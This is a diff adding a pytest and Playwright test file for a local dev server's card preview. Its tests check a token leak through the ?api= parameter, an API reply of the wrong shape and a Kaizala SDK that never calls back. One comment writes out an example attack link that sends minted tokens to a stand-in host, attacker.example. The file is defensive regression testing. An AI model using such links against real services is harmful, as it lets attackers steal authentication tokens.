@@ -1,0 +1,127 @@
+"""Review 2: the card page and its preview in headless Chromium, against `python -m devserver` on 127.0.0.1.
+
+Everything stays on this machine: the "other origin" below is a capture server on 127.0.0.1.
+"""
+
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+import pytest
+
+from tests.devserver_process import DevServer
+from tests.shared_data import teams_js_bundle
+from tests.test_card_browser import browser, page, server  # noqa: F401 - fixtures
+
+pytestmark = [pytest.mark.browser]
+
+from playwright.sync_api import Page, Route, expect  # noqa: E402
+
+
+class Capture(ThreadingHTTPServer):
+    authorizations: list[str]
+
+
+class Handler(BaseHTTPRequestHandler):
+    """Any origin's API: allows CORS with Authorization, and records every Authorization header it is sent."""
+
+    server: Capture
+
+    def log_message(self, format: str, *args: object) -> None:
+        pass
+
+    def _cors(self) -> None:
+        self.send_header("Access-Control-Allow-Origin", "*")
+        self.send_header("Access-Control-Allow-Headers", "Authorization")
+
+    def do_OPTIONS(self) -> None:
+        self.send_response(204)
+        self._cors()
+        self.end_headers()
+
+    def do_GET(self) -> None:
+        if self.headers.get("Authorization"):
+            self.server.authorizations.append(self.headers["Authorization"])
+        body = b'{"products": [], "count": 0}'
+        self.send_response(200)
+        self._cors()
+        self.send_header("Content-Type", "application/json")
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+
+@pytest.fixture
+def capture() -> Iterator[Capture]:
+    httpd = Capture(("127.0.0.1", 0), Handler)
+    httpd.authorizations = []
+    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield httpd
+    finally:
+        httpd.shutdown()
+
+
+@pytest.mark.parametrize("mode", ["", "host=teams&"])
+def test_a_link_cannot_send_a_freshly_minted_token_to_another_origin(
+    page: Page,  # noqa: F811
+    server: DevServer,  # noqa: F811
+    capture: Capture,
+    mode: str,
+) -> None:
+    # devserver/kaizala.py:_preview_config takes any http(s) URL from ?api=, and the preview then mints a token at
+    # the loopback-only /v1/dev/tokens (or /v1/dev/teams-tokens) and sends it to that origin. A link such as
+    # http://127.0.0.1:7072/card/?api=https://attacker.example hands the attacker a token the local function host
+    # accepts; with `--host 0.0.0.0` that host is reachable from the network, so the loopback-only minting rule is
+    # bypassed. Fix: accept only loopback origins (localhost/127.0.0.1/[::1]) in ?api=, or drop ?api= for a flag.
+    if mode:
+        teams_js_bundle()
+    evil = f"http://127.0.0.1:{capture.server_address[1]}"
+    page.goto(f"{server.kaizala}/card/?{mode}api={evil}")
+    expect(page.locator("#status")).not_to_have_text("Loading…")
+    sent = len(capture.authorizations)  # the count only: a failure message must not print the tokens
+    assert sent == 0, f"the preview sent {sent} minted token(s) to an origin named in its URL"
+
+
+def test_an_api_answer_of_the_wrong_shape_never_leaves_the_card_loading(
+    page: Page,  # noqa: F811
+    server: DevServer,  # noqa: F811
+) -> None:
+    # card/app.js:load() calls showProducts() outside any try: a 200 whose JSON lacks `products` (a proxy, a
+    # mis-set PRODUCTS_FILE behind another API version) throws a TypeError after the awaits; the promise rejects
+    # unhandled, the status stays "Loading…" and Retry stays hidden, for good. Fix: validate the listing in
+    # callApi (Array.isArray(listing.products)) and turn anything else into a CardError("server", ..., true).
+    def wrong_shape(route: Route) -> None:
+        if route.request.method == "OPTIONS":
+            route.continue_()
+            return
+        route.fulfill(
+            status=200,
+            content_type="application/json",
+            headers={"Access-Control-Allow-Origin": "*"},
+            body='{"items": []}',
+        )
+
+    page.route("**/api/ProtectedApi", wrong_shape)
+    page.goto(f"{server.kaizala}/card/")
+    expect(page.locator("#user-name")).to_have_text("Signed in as Asha Rao")
+    expect(page.locator("#status")).not_to_have_text("Loading…")
+    expect(page.locator("#retry")).to_be_visible()
+
+
+def test_a_kaizala_sdk_that_never_answers_does_not_leave_the_card_loading_forever(
+    page: Page,  # noqa: F811
+    server: DevServer,  # noqa: F811
+) -> None:
+    # The Teams path gives app.initialize() 15 s, then offers Retry; the Kaizala path (and teams-js getAuthToken)
+    # waits forever on a callback that never comes: "Loading…" with no Retry. Fix: the same timeout around
+    # KAIZALA.requestToken and TEAMS' getAuthToken, rejecting with a retryable CardError("token", ...).
+    silent = (
+        "window.KASClient = {App: {getIntegerationServiceTokenAsync: function (callback) { /* never calls back */ }}};"
+    )
+    page.route(
+        "**/card/KASClient.js", lambda route: route.fulfill(status=200, content_type="text/javascript", body=silent)
+    )
+    page.goto(f"{server.kaizala}/card/")
+    expect(page.locator("#retry")).to_be_visible(timeout=25_000)
